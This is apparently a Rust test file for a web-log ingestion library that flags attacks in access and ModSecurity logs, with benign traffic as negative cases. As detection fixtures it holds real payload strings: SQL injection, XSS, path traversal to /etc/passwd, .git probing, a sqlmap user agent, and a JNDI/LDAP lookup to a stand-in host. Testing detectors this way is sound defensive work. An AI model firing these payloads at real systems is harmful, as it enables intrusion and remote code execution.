//! What is marked, how, and what never is.

use super::{detecting, kinds, record};
use spoor_ingest::{Entry, Format, Options, Record, read};
use spoor_model::request::Action;
use spoor_model::{Attack, Exchange};
use std::ops::ControlFlow;

fn read_all(text: &str, options: &Options) -> (Vec<Record>, u64) {
    let mut records = Vec::new();
    let summary = read(&mut text.as_bytes(), options, &mut |entry| {
        if let Entry::Record { record, .. } = entry {
            records.push(*record);
        }
        ControlFlow::Continue(())
    });
    (records, summary.unwrap().detected)
}

const LOG: &str = concat!(
    r#"203.0.113.7 - - [17/May/2015:10:05:03 +0000] "GET /item?id=1%27%20OR%20%271%27=%271 HTTP/1.1" 200 5 "-" "curl/8.14""#,
    "\n",
    r#"203.0.113.7 - - [17/May/2015:10:05:04 +0000] "GET /item?id=1 HTTP/1.1" 200 5 "-" "curl/8.14""#,
    "\n",
);

#[test]
fn nothing_is_looked_for_unless_asked() {
    let (records, detected) = read_all(LOG, &Options::default());
    assert!(records.len() == 2 && records.iter().all(|record| record.attacks.is_empty()) && detected == 0);
}

#[test]
fn what_is_found_says_whose_word_it_is_and_where_it_stood() {
    let (records, detected) = read_all(LOG, &detecting());
    assert_eq!(detected, 1);
    assert!(records[1].attacks.is_empty());
    let [attack] = records[0].attacks.as_slice() else { panic!("{:?}", records[0].attacks) };
    assert_eq!(
        (attack.kind.as_str(), attack.payload.as_deref(), attack.parameter.as_deref()),
        ("sqli", Some("1' OR '1'='1"), Some("QUERY > id"))
    );
    assert_eq!(
        (attack.detector.as_deref(), attack.rule.as_deref(), attack.action),
        (Some("Spoor"), Some("libinjection sqli"), Action::Monitored)
    );
}

#[test]
fn identifiers_stay_the_same_with_and_without() {
    let ids = |options: &Options| -> Vec<_> {
        read_all(LOG, options).0.into_iter().map(|record| record.id).collect()
    };
    assert_eq!(ids(&detecting()), ids(&Options::default()));
}

#[test]
fn what_a_source_reports_itself_is_left_alone() {
    let reported = r#"{"time":"2026-03-01T12:00:00Z","path":"/?q=<script>alert(1)</script>","attacks":[{"type":"scanner","detector":"waf"}]}"#;
    let (records, detected) = read_all(reported, &detecting());
    assert_eq!((records[0].attacks.len(), records[0].attacks[0].detector.as_deref()), (1, Some("waf")));
    assert_eq!(detected, 0);
    // A firewall that says nothing of a request has looked at it.
    let passed = "--c7036611-A--\n[01/Mar/2026:12:00:00 +0000] Wabcdefghijklmnop 203.0.113.7 46150 10.0.0.1 80\n--c7036611-B--\nGET /?q=<script>alert(1)</script> HTTP/1.1\nHost: a\nUser-Agent: sqlmap/1\n\n--c7036611-F--\nHTTP/1.1 200 OK\n\n--c7036611-Z--\n";
    let options = Options { format: Format::from_name("modsecurity-native"), ..detecting() };
    let (records, detected) = read_all(passed, &options);
    assert!(records.len() == 1 && records[0].attacks.is_empty() && detected == 0);
}

#[test]
fn attacks_are_found_in_every_place_a_client_chooses() {
    let with = |headers: &[(&str, &str)], body: &str| Record {
        exchange: Some(Exchange {
            request_headers: headers
                .iter()
                .map(|(name, value)| ((*name).to_owned(), (*value).to_owned()))
                .collect(),
            request_body: Some(body.to_owned()),
            ..Exchange::default()
        }),
        ..record("/")
    };
    let form = [("Content-Type", "application/x-www-form-urlencoded; charset=utf-8")];
    let agent = Record { user_agent: Some("sqlmap/1.9".to_owned()), ..record("/") };
    let refused = Record { status: Some(404), ..record("/blog/wp-login.php") };
    let cases = [
        (record("/a?q=%3Cscript%3Ealert(1)%3C/script%3E"), "xss", "QUERY > q"),
        (record("/a?q=%253Cscript%253Ealert(1)%253C/script%253E"), "xss", "QUERY > q"),
        (record("/a?%27%20union%20select%201,2--"), "sqli", "QUERY"),
        (record("/<script>alert(1)</script>"), "xss", "PATH"),
        (record("/item/1%27%20or%20%271%27=%271"), "sqli", "PATH"),
        (record("/static/..%252f..%252f..%252fetc%252fhosts"), "path_traversal", "PATH"),
        (record("/a?file=../../../../etc/passwd"), "path_traversal", "QUERY > file"),
        (record("/.git/config"), "forced_browsing", "PATH"),
        (refused, "forced_browsing", "PATH"),
        (agent, "scanner", "HEADER > User-Agent"),
        (with(&form, "a=1&b=%27+or+1%3D1--"), "sqli", "BODY > FORM > b"),
        (with(&[], r#"{"a":[{"b":"<img src=x onerror=alert(1)>"}]}"#), "xss", "BODY > JSON > a > [0] > b"),
        (with(&[("Cookie", "a=1; id=' or 1=1--")], ""), "sqli", "COOKIE > id"),
        (record("/?x=${jndi:ldap://a.test/x}"), "rce", "QUERY > x"),
    ];
    for (record, kind, parameter) in cases {
        let attacks = spoor_ingest::detect::attacks(&record);
        let is = |attack: &Attack| attack.kind == kind && attack.parameter.as_deref() == Some(parameter);
        assert!(attacks.iter().any(is), "{kind} in {parameter}: {attacks:?}");
    }
}

#[test]
fn what_people_and_programs_send_is_no_attack() {
    let agents = [
        "curl/8.14",
        "python-requests/2.32.3",
        "Go-http-client/2.0",
        "Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/140.0.0.0 Safari/537.36",
        "Mozilla/5.0 (compatible; Googlebot/2.1; +http://www.google.com/bot.html)",
        "Mozilla/5.0 (iPhone; CPU iPhone OS 18_0 like Mac OS X) AppleWebKit/605.1.15 (KHTML, like Gecko) Version/18.0 Mobile/15E148 Safari/604.1",
    ];
    for agent in agents {
        let record = Record { user_agent: Some(agent.to_owned()), ..record("/") };
        assert_eq!(kinds(&record), Vec::<String>::new(), "{agent}");
    }
    let paths = [
        "/v2/users/4711/orders?page=2&sort=-created&q=red%20shoes",
        "/diff/main...topic?a=../list",
        "/search?q=select%20a%20shirt%20from%20the%20union%20shop",
        "/search?q=O%27Brien",
        "/search?q=1+%2B+1+%3D+2",
        "/wp-login.php",
        "/a?redirect=https://shop.test/a/b?c=d%26e=f",
        "/a?at=2026-03-01T12:00:00%2B01:00&range=1-10&email=a.b%2Bc@shop.test",
        "/a?filter=%7B%22a%22:%5B1,2%5D%7D",
        "/.well-known/security.txt",
    ];
    for path in paths {
        assert_eq!(kinds(&record(path)), Vec::<String>::new(), "{path}");
    }
}
